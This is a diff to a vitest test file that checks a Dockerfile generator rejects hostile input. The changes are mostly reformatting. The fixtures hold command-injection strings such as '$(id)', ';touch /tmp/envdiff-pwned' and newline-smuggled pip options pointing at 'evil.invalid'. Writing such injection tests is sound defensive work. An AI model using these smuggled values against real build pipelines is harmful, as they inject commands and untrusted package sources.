@@ -6,7 +6,7 @@ import { readFileSync } from 'node:fs';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, test } from 'vitest';
 import { validate } from 'dockerfile-utils';
-import type { Fingerprint } from '../../src/core/types.js';
+import type { Fingerprint } from '../../src/facets/index.js';
 import { generateDockerfile } from '../../src/dockerfile/generate.js';
 import { EnvdiffError } from '../../src/core/errors.js';
 
@@ -23,7 +23,12 @@ function hostile(): Fingerprint {
   py.find((p) => p.name === 'pip')!.version = '23.2.1 $(touch /tmp/envdiff-pwned)';
   py.push({ name: 'evil-newline', version: '1.0\n--index-url http://evil.invalid/', installer: 'pip' });
   py.push({ name: 'evil-semicolon', version: '1.0;touch /tmp/envdiff-pwned', installer: 'pip' });
-  py.push({ name: 'evil-url', version: '1.0', installer: 'pip', directUrl: { url: 'https://x.invalid/a.whl\n--trusted-host evil.invalid' } });
+  py.push({
+    name: 'evil-url',
+    version: '1.0',
+    installer: 'pip',
+    directUrl: { url: 'https://x.invalid/a.whl\n--trusted-host evil.invalid' },
+  });
   const sys = fp.facets.system.packages!;
   sys.push({ name: 'foo;touch /tmp/envdiff-pwned', version: '1.0', arch: 'amd64', manual: true, priority: 'optional' });
   sys.push({ name: 'bar', version: '1.0 $(id)', arch: 'amd64', manual: true, priority: 'optional' });
@@ -54,7 +59,9 @@ describe('hostile strings in a fingerprint', () => {
 
   test('add no instruction: the same steps as the untouched fixture', () => {
     expect(steps.map((s) => s.split(' ')[0])).toEqual(instructions(clean.dockerfile).map((s) => s.split(' ')[0]));
-    expect(validate(gen.dockerfile).map((d) => `line ${d.range.start.line + 1}: ${d.message}`)).toEqual([]);
+    expect(
+      validate(gen.dockerfile).map((d) => `line ${d.range.start.line + 1}: ${typeof d.message === 'string' ? d.message : d.message.value}`),
+    ).toEqual([]);
   });
 
   test('never reach an instruction, except as quoted data', () => {
@@ -76,7 +83,16 @@ describe('hostile strings in a fingerprint', () => {
 
   test('packages with impossible names or versions are left out, each named', () => {
     const left = gen.omissions.map((o) => `${o.facet}:${o.subject}`);
-    for (const s of ['python:pip', 'python:evil-newline', 'python:evil-semicolon', 'python:evil-url', 'system:foo;touch /tmp/envdiff-pwned', 'system:bar', 'jvm:scala', 'jvm:spark']) {
+    for (const s of [
+      'python:pip',
+      'python:evil-newline',
+      'python:evil-semicolon',
+      'python:evil-url',
+      'system:foo;touch /tmp/envdiff-pwned',
+      'system:bar',
+      'jvm:scala',
+      'jvm:spark',
+    ]) {
       expect(left).toContain(s);
     }
   });
@@ -113,7 +129,11 @@ describe('options that would be written into the Dockerfile', () => {
     ['--base with shell text', { base: 'debian:12 && touch x' }, /--base .* is not an image reference/],
     ['--base that is an option', { base: '--help' }, /is not an image reference/],
     ['--platform with a newline', { platform: 'linux/amd64\nRUN id' }, /is not an OCI platform/],
-    ['--pip-index-url with a newline', { pipIndexUrl: 'https://x.invalid/simple\n--trusted-host evil' }, /--pip-index-url .* is not a usable URL/],
+    [
+      '--pip-index-url with a newline',
+      { pipIndexUrl: 'https://x.invalid/simple\n--trusted-host evil' },
+      /--pip-index-url .* is not a usable URL/,
+    ],
     ['--pip-extra-index-url with $( )', { pipExtraIndexUrls: ['https://x.invalid/$(id)'] }, /--pip-extra-index-url/],
     ['--pip-find-links with a space', { pipFindLinks: ['wheels; touch x'] }, /--pip-find-links/],
   ])('%s: refused with one line', (_what, opts, why) => {
@@ -137,7 +157,9 @@ describe('options that would be written into the Dockerfile', () => {
     expect(g.dockerfile).toContain('FROM --platform=linux/amd64 registry.example.com:5000/team/py@sha256:0123');
     // Pinned by digest already: no advice to pin it.
     expect(g.dockerfile).not.toContain('pin its digest');
-    expect(generateDockerfile(load()).dockerfile.replace(/\n# /g, ' ')).toContain('pin its digest (docker buildx imagetools inspect python:3.11.7-slim-bookworm) with --base python:3.11.7-slim-bookworm@sha256:<digest>');
+    expect(generateDockerfile(load()).dockerfile.replace(/\n# /g, ' ')).toContain(
+      'pin its digest (docker buildx imagetools inspect python:3.11.7-slim-bookworm) with --base python:3.11.7-slim-bookworm@sha256:<digest>',
+    );
   });
 });
 
